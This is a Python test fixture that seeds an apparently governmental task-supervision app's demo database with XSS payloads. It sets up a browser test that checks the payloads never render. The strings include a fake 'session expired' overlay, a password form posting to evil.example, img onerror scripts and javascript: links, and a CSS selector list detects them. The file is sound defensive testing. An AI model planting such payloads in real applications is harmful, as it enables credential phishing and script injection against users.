"""Markup payloads planted in every user text field, through the services, on a demo database.

Used by tests/test_browser_user_text.py (issue 11 #1, #6). Every payload carries a tell-tale
the rendered page is searched for: a host ``evil.example``, an image ``src=x``, a
``javascript:`` link, a password input named ``p``, an overlay styled ``inset:0``.
"""

import datetime as dt
from dataclasses import dataclass

from sqlmodel import Session, col, select

from duban.assessment import appeals, periods, results
from duban.core import clock
from duban.core.permissions import Actor
from duban.inspections import records
from duban.intake import drafts, importer
from duban.monitoring import holidays
from duban.notices import drafting, issuing, replies, templates
from duban.notices import rules as notice_rules
from duban.org import departments, users
from duban.tasks import manage, workflow
from models import AppUser, Assignment, Finding, Instruction, Notice, Role, Target, Task

# Free text: every trick of the issue, on several lines.
LONG = (
    "XSS长文<style>body{display:none}</style>"
    '<div style="position:fixed;inset:0;background:red">会话已过期，请重新输入密码</div>\n'
    '<form action="http://evil.example/x">密码<input type=password name=p></form>\n'
    '<iframe src="http://evil.example/f"></iframe><a href="http://evil.example/a">链接</a>'
    "<img src=x onerror=alert(1)>\n"
    "![r](http://evil.example/pixel.png) [点此](http://evil.example/l) "
    "[click](javascript:alert(1)) &lt;b&gt;粗&lt;/b&gt; &amp;nbsp; "
    "http://evil.example/bare www.evil.example **星** :red[红] $x$"
)
# One line, at most 300 characters (titles, milestones, targets).
LINE = (
    'XSS标题<form action="http://evil.example/x"><input type=password name=p></form>'
    '<a href="http://evil.example/a">链接</a><img src=x onerror=alert(1)>'
    "![t](http://evil.example/t.png)[点此](http://evil.example/l)[c](javascript:alert(1))"
    "<style>body{display:none}</style>&amp; http://evil.example/b"
)
NAME = '<a href="http://evil.example/u">XSS单位</a>![u](http://evil.example/u.png)<img src=x>'
SHORT = '<a href="//evil.example/s">XSS简称</a>'  # 40 characters at most (plotly reads <a>)
PERSON = "<img src=x>![n](//evil.example/n.png)"  # a display name, 40 at most
CODE = '<a href="//evil.example/c">码</a>![](x)'  # the Gantt chart's labels start with it
UNIT = "![](//evil.example)"  # a target's unit, 20 at most
PHASE = '<a href="//evil.example/p">XSS阶段</a>![p](//evil.example/p)'
FILE = "<img src=x onerror=alert(1)>![i](x)[l](javascript:alert(1)).pdf"  # no "/": a base name
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

# What a page must never contain (CSS selectors), and what no request may go to.
FORBIDDEN = {
    "a form posting elsewhere": 'form[action*="evil"]',
    "the payload's password field": 'input[type="password"][name="p"]',
    "an iframe": 'iframe[src*="evil"]',
    "an image from the payload": 'img[src*="evil"], img[src="x"], image[*|href*="evil"]',
    # (an in-page anchor of a heading, href="#…", may spell the payload: it goes nowhere)
    "a link to the payload's host": '[*|href*="evil"]:not([href^="#"])',
    "a javascript: link": '[*|href^="javascript"]',
    "the payload's overlay": '[style*="inset:0"], [style*="inset: 0"]',
}


@dataclass
class Planted:
    task_id: int
    task_title: str
    unit_id: int  # dept01's unit, lead of the task
    renamed_unit_id: int  # dept02's unit, now called NAME


def _actor(s: Session, username: str) -> Actor:
    return Actor.of(s.exec(select(AppUser).where(AppUser.username == username)).one())


def _people(s: Session) -> dict[str, Actor]:
    """The demo's people, dept02 renamed, and a second leader and inspector with payload
    names (the accounts the test logs in with keep theirs: app.py draws the sidebar)."""
    office = _actor(s, "office")
    dept02 = s.exec(select(AppUser).where(AppUser.username == "dept02")).one()
    users.update_user(
        s, actor=office, user_id=dept02.id, expected_version=dept02.version, display_name=PERSON
    )
    for username, role in (("leader2", Role.leader), ("inspector2", Role.inspector)):
        users.create_user(
            s,
            actor=office,
            username=username,
            display_name=PERSON,
            role=role,
            email=f"{username}@example.org",
            password="payload-password",
        )
    return {
        "office": office,
        "leader": _actor(s, "leader2"),
        "inspector": _actor(s, "inspector2"),
        "dept01": _actor(s, "dept01"),
        "dept02": _actor(s, "dept02"),
    }


def _units(s: Session, who: dict[str, Actor]) -> tuple[int, int, str]:
    """dept02's unit renamed to NAME (short name SHORT); returns (unit1, unit2, unit1 name)."""
    u1, u2 = who["dept01"].department_id, who["dept02"].department_id
    assert u1 is not None and u2 is not None
    d2 = departments.list_departments(s)
    unit2 = next(d for d in d2 if d.id == u2)
    departments.update_department(
        s,
        actor=who["office"],
        department_id=u2,
        expected_version=unit2.version,
        name=NAME,
        short_name=SHORT,
    )
    departments.create_department(s, actor=who["office"], name=NAME + "2", parent_id=u2)
    unit1 = next(d for d in d2 if d.id == u1)
    return u1, u2, unit1.name


def _plan_and_task(s: Session, who: dict[str, Actor], unit1: str) -> Task:
    """A plan imported with payloads in its header and its one task, then 交办."""
    today = clock.today()
    task = drafts.DraftTask(
        code=CODE,
        title=LINE,
        description=LONG,
        phase=PHASE,
        lead_units=[unit1],
        responsible_units=[NAME],
        deadline=today + dt.timedelta(days=20),
        milestones=[drafts.DraftMilestone(date=today + dt.timedelta(days=10), text=LINE)],
        targets=[drafts.DraftTarget(text=LINE, value=100.0, unit=UNIT)],
    )
    draft = drafts.ImportDraft(
        title=LINE, issuer=NAME, doc_number=SHORT, phases=[PHASE], tasks=[task]
    )
    importer.commit_import(s, actor=who["office"], draft=draft, source_name=FILE)
    t = s.exec(select(Task).order_by(col(Task.id).desc())).first()
    assert t is not None and t.title == LINE
    return manage.assign_task(s, actor=who["office"], task_id=t.id, expected_version=t.version)


def _unit_work(s: Session, who: dict[str, Actor], task: Task, u1: int, u2: int) -> None:
    """Reports with evidence and a target reading (one corrected), extension requests (one
    refused), 批示 and answers (one recorded by the office for a leader), a 申请销号 sent
    back with a reason (shown on the task)."""
    target = s.exec(select(Target).where(Target.task_id == task.id)).one()
    for actor, unit in ((who["dept01"], u1), (who["dept02"], u2)):
        a = s.exec(
            select(Assignment).where(
                Assignment.task_id == task.id, Assignment.department_id == unit
            )
        ).one()
        workflow.report_progress(
            s,
            actor=actor,
            assignment_id=a.id,
            percent=40,
            done_text=LONG,
            problems=LONG,
            next_steps=LONG,
            target_values={target.id: 60.0},
            files=[(FILE, PDF)],
        )
    # dept02 corrects its report: the reason and the new text are user text, the old report
    # stays in the timeline marked 已更正
    last = workflow.last_report(s, a.id)
    assert last is not None
    workflow.correct_report(
        s,
        actor=who["dept02"],
        report_id=last.id,
        reason=LONG,
        percent=30,
        done_text=LONG,
        problems=LONG,
        next_steps=LONG,
        target_values={target.id: 50.0},
        files=[(FILE, PDF)],
    )
    office, head = who["office"], who["dept01"]
    later = task.deadline + dt.timedelta(days=30)
    ext = workflow.request_extension(
        s, actor=head, task_id=task.id, requested_date=later, reason=LONG
    )
    manage.decide_extension(
        s, actor=office, request_id=ext.id, approve=False, expected_version=ext.version, note=LONG
    )
    answered = workflow.create_instruction(s, actor=who["leader"], task_id=task.id, text=LONG)
    workflow.answer_instruction(s, actor=who["dept02"], instruction_id=answered.id, text=LONG)
    workflow.create_instruction(s, actor=who["leader"], task_id=task.id, text=LONG)  # open
    workflow.create_instruction(  # recorded by the office for the leader (PERSON's name)
        s, actor=office, task_id=task.id, text=LONG, on_behalf_of=who["leader"].user_id
    )
    task = s.get(Task, task.id)
    task = workflow.submit_for_sign_off(
        s,
        actor=head,
        task_id=task.id,
        summary=LONG,
        expected_version=task.version,
        files=[(FILE, PDF)],
    )
    manage.change_status(
        s,
        actor=office,
        task_id=task.id,
        action="task.send_back",
        expected_version=task.version,
        reason=LONG,
    )
    # pending requests come after: a task with one pending cannot be submitted for 销号
    for actor in (head, who["dept02"]):
        workflow.request_extension(
            s, actor=actor, task_id=task.id, requested_date=later, reason=LONG
        )


def _inspection(s: Session, who: dict[str, Actor], task: Task, u1: int, u2: int) -> None:
    """An inspection with payload text and evidence; one finding answered and re-checked
    (sent back with a note), one answered and waiting for the re-check."""
    today = clock.today()
    due = today + dt.timedelta(days=15)
    insp = records.record_inspection(
        s,
        actor=who["inspector"],
        inspected_on=today,
        method="on_site",
        result="poor",
        inspectors=LINE[:200],
        narrative=LONG,
        department_ids=[u1, u2],
        task_ids=[task.id],
        findings=[
            records.FindingInput(u1, LONG, due, task.id),
            records.FindingInput(u1, LONG, due),
        ],
        files=[(FILE, PDF)],
    )
    first, second = s.exec(
        select(Finding).where(Finding.inspection_id == insp.id).order_by(col(Finding.id))
    ).all()
    for f in (first, second):
        records.answer_finding(
            s,
            actor=who["dept01"],
            finding_id=f.id,
            expected_version=f.version,
            text_=LONG,
            files=[(FILE, PDF)],
        )
    f = s.get(Finding, first.id)
    records.recheck_finding(
        s,
        actor=who["inspector"],
        finding_id=f.id,
        expected_version=f.version,
        accepted=False,
        note=LONG,
    )


def _notices(s: Session, who: dict[str, Actor], task: Task, u1: int) -> None:
    """Rules and a template with payloads; an issued notice the unit answers; a draft."""
    office = who["office"]
    rules = notice_rules.load_notice_rules(s)
    notice_rules.save_rules(
        s,
        actor=office,
        rules={**rules, "issuer": NAME, "signature": NAME, "copy_to": LINE},
        expected_version=notice_rules.rules_version(s),
    )
    source, _, version = templates.template_source(s, "urging")
    templates.save_template(
        s, actor=office, kind="urging", source=LONG + "\n" + source, expected_version=version
    )
    fields = dict(
        title=LINE, addressees=LINE, body=LONG, requirements=LONG, signature=LINE, copy_to=LINE
    )
    issued = drafting.draft_notice(s, actor=office, kind="urging", department_id=u1)
    issued = drafting.update_draft(
        s,
        actor=office,
        notice_id=issued.id,
        expected_version=issued.version,
        recipients=[u1],
        **fields,
    )
    issued = issuing.issue_notice(
        s, actor=office, notice_id=issued.id, expected_version=issued.version
    )
    replies.reply_notice(s, actor=who["dept01"], notice_id=issued.id, text_=LONG)
    second = drafting.draft_notice(s, actor=office, kind="urging", department_id=u1)
    second = drafting.update_draft(
        s,
        actor=office,
        notice_id=second.id,
        expected_version=second.version,
        recipients=[u1],
        **fields,
    )
    issuing.issue_notice(s, actor=office, notice_id=second.id, expected_version=second.version)
    drafting.draft_notice(
        s,
        actor=office,
        kind="interview",
        department_id=u1,
        interview_at=dt.datetime.combine(clock.today() + dt.timedelta(days=7), dt.time(9)),
        place=LINE,
        attendees=LINE,
        contact=LINE,
        phone="0571-87000000",
    )
    # once the second urging has gone unanswered past its reply date, there is something to
    # hold the unit to account for
    late = dt.datetime.combine(second.reply_due + dt.timedelta(days=1), dt.time(10))
    with clock.frozen(late):
        drafting.draft_notice(
            s, actor=office, kind="accountability", department_id=u1, sanction=LINE
        )
    draft = drafting.draft_notice(s, actor=office, kind="urging", department_id=u1)
    drafting.update_draft(
        s, actor=office, notice_id=draft.id, expected_version=draft.version, **fields
    )
    # the second urging withdrawn with a payload reason: the unit sees it marked, with it
    second = s.get(Notice, second.id)
    assert second is not None
    issuing.withdraw_notice(
        s, actor=office, notice_id=second.id, expected_version=second.version, reason=LONG
    )


def _assessment(s: Session, who: dict[str, Actor], u1: int) -> None:
    """A quarter with an appeal (LONG) against one of the unit's deductions, and a decided one."""
    office, head = who["office"], who["dept01"]
    period = periods.create_period(s, actor=office, kind="quarter", day=clock.today())
    res = results.period_result(s, actor=head, period_id=period.id)
    unit = next(u for u in res.units if u.department_id == u1)
    lines = [ln for ln in unit.lines if ln["status"] == "counted" and ln["points"] < 0]
    assert len(lines) >= 2, "the demo should give dept01's unit deductions this quarter"
    for ln in lines[:2]:
        appeals.create_appeal(
            s, actor=head, period_id=period.id, department_id=u1, line_key=ln["key"], reason=LONG
        )
    first = appeals.list_appeals(s, actor=office, period_id=period.id)[0]
    appeals.decide_appeal(
        s, actor=office, appeal_id=first.id, accept=False, note=LONG, expected_version=first.version
    )


def plant(session: Session) -> Planted:
    """Every user text field of the product, through the services, with a payload."""
    who = _people(session)
    u1, u2, unit1 = _units(session, who)
    task = _plan_and_task(session, who, unit1)
    _unit_work(session, who, task, u1, u2)
    _inspection(session, who, task, u1, u2)
    _notices(session, who, task, u1)
    _assessment(session, who, u1)
    holidays.apply_calendar_changes(
        session,
        actor=who["office"],
        upserts=[holidays.CalendarChange(clock.today() + dt.timedelta(days=3), False, PHASE)],
    )
    assert session.exec(select(Instruction).where(Instruction.task_id == task.id)).all()
    assert session.exec(select(Notice).where(Notice.title == LINE)).all()
    return Planted(task_id=task.id, task_title=LINE, unit_id=u1, renamed_unit_id=u2)
